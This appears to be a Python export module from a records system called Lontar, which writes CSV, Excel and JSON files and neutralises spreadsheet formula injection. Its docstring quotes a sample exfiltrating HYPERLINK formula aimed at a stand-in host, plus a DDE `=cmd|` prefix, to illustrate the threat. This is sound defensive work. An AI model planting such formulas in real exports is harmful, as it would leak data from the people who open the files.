"""Rows as files: CSV (UTF-8 with BOM, which Excel opens with Indonesian names intact), Excel
and JSON. Every table Lontar hands out as a file goes through `encode`: search results (their
rows come from the search service, so an export holds exactly what its caller may see), the
audit trail, the PPID registers and the tables the pages offer for download.

**Formula injection.** A cell a spreadsheet reads as a formula runs when the file is opened
(`=HYPERLINK("http://x/leak?"&A2,"Klik")` sends the neighbouring cell away; `=cmd|...` is DDE).
Titles, PPID requesters' names and failed login names are typed by people Lontar does not
trust, so in CSV and Excel every text cell (and the header) passes through `neutralise`, after
OWASP: a text whose first character is one of

    =  +  -  @  tab  CR            (OWASP's list)
    LF                              (a cell may begin with a line break inside quotes; some
                                    importers drop it and read what follows)
    ＝ ＋ － ＠                     (full-width forms: an East Asian Excel reads them as =, +, -, @)

or whose first character after leading (Unicode) white space is one of them, gets a single
quote `'` in front; the quote makes any spreadsheet read the cell as text. The rules around it:

- Numbers stay numbers: an `int`, `float` or `Decimal` (also numpy's) is not text and is left
  alone, negative ones included (a negative number is not a formula). So are dates, times,
  booleans and None. A text that is nothing but a plain number (`-5`, `+62`, `-1,5`) or the
  placeholder `-` alone cannot hold a formula and is left as it is too.
- Leading quotes are looked past: `'=x` becomes `''=x`. This makes the rule reversible:
  `unescape` gives back exactly what `neutralise` was given, so a file that is also read back
  in (the JRA) makes the round trip unchanged.
- Other objects (rare) are left as they are unless their text would start a formula; then the
  neutralised text is written instead.
- Excel cells are also written as text, never as formulas (openpyxl makes a formula of any
  text starting with `=`; the quote prevents that), and characters XML 1.0 cannot hold (C0
  controls other than tab, LF and CR) become U+FFFD instead of failing the whole file.

JSON is for programs, not spreadsheets: its values are written exactly as they are, and whoever
puts JSON into a spreadsheet has to neutralise it there.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import numbers
import re
from collections.abc import Iterable, Sequence

FORMATS = ("csv", "xlsx", "json")
COLUMNS = (
    "id",
    "refcode",
    "title",
    "date",
    "unit",
    "level",
    "security",
    "classification",
    "flags",
)
MEDIA_TYPES = {
    "csv": "text/csv",
    "json": "application/json",
    "xlsx": "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
}

ESCAPE = "'"
FORMULA_STARTS = frozenset("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20")  # full-width = + - @
PLAIN_NUMBER = re.compile(r"[+-]?[0-9]+(?:[.,][0-9]+)*|-", re.ASCII)
NOT_IN_XML = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")  # what openpyxl refuses to write
KEPT = (numbers.Number, dt.date, dt.time, dt.timedelta)  # bool is a Number; datetime a date


def row_of(hit) -> dict:
    return {
        name: " ".join(hit.flags) if name == "flags" else getattr(hit, name) for name in COLUMNS
    }


def starts_formula(text: str) -> bool:
    """Whether a spreadsheet could read `text` (past any leading quotes) as a formula."""
    body = text.lstrip(ESCAPE)
    if not body or PLAIN_NUMBER.fullmatch(body):
        return False
    return body[0] in FORMULA_STARTS or body.lstrip()[:1] in FORMULA_STARTS


def neutralise(value):
    """One cell as it may go into a CSV or Excel file (see the module's docstring)."""
    if value is None or isinstance(value, KEPT):
        return value
    text = value if isinstance(value, str) else str(value)
    if not starts_formula(text):
        return value
    return ESCAPE + text


def unescape(text: str) -> str:
    """The inverse of `neutralise` for text read back from a file Lontar wrote."""
    if text.startswith(ESCAPE) and starts_formula(text):
        return text[1:]
    return text


def _xml_safe(value):
    return NOT_IN_XML.sub("\ufffd", value) if isinstance(value, str) else value


def encode(rows: Iterable[dict], fmt: str, columns: Sequence[str] = COLUMNS) -> bytes:
    """Rows as a file in `fmt`, in `columns` (other keys are left out); every export of Lontar
    (search, audit, registers, the pages' tables) goes through here, so they all open the same
    way in Excel and none of them can carry a formula. JSON keeps every value as it is."""
    rows = list(rows)
    if fmt == "json":
        return json.dumps(rows, ensure_ascii=False, indent=1).encode()
    header = [neutralise(str(name)) for name in columns]
    body = [[neutralise(row.get(name)) for name in columns] for row in rows]
    if fmt == "xlsx":
        import pandas as pd  # heavy (about 0.3 s): loaded only when an Excel file is asked for

        cells = [[_xml_safe(value) for value in line] for line in body]
        # object dtype: ints stay ints (not floats because a neighbour is empty)
        frame = pd.DataFrame(cells, columns=[_xml_safe(name) for name in header], dtype=object)
        out = io.BytesIO()
        frame.to_excel(out, index=False, sheet_name="Lontar")
        return out.getvalue()
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(header)
    writer.writerows(body)
    return ("\ufeff" + out.getvalue()).encode()
